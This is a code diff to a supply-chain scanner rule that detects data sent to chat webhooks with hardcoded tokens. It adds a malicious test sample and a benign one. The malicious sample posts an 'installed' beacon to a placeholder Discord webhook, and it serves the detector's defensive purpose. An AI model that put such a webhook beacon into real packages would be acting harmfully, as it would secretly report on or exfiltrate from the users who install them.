@@ -9,6 +9,7 @@ from wheelmark.scan.facts import Act, Call, Facts
 from wheelmark.scan.report import Severity, Tactic
 from wheelmark.scan.rule import Evidence, Rule
 from wheelmark.scan.rules._common import graded, shown
+from wheelmark.scan.samples import Sample, Samples
 from wheelmark.scan.values import Taint
 
 # Only addresses that carry their own authority: the API's host alone is what every client library has.
@@ -46,4 +47,25 @@ RULE = Rule(
     message="Something is sent to a chat channel or request catcher whose access token stands in the code.",
     reference="https://attack.mitre.org/techniques/T1567/",
     check=check,
+    samples=Samples(
+        malicious=(
+            Sample.imported("""
+                import requests
+
+                _CHANNEL = "https://discord.com/api/webhooks/000000000000000000/" + "imitation-imitation"
+                requests.post(_CHANNEL, json={"content": "installed"})
+            """),
+        ),
+        benign=(
+            Sample.imported('''
+                import requests
+
+
+                def send(token, chat, text):
+                    """Send a message as the bot whose token the caller has."""
+                    address = f"https://api.telegram.org/bot{token}/sendMessage"
+                    return requests.post(address, data={"chat_id": chat, "text": text})
+            '''),
+        ),
+    ),
 )
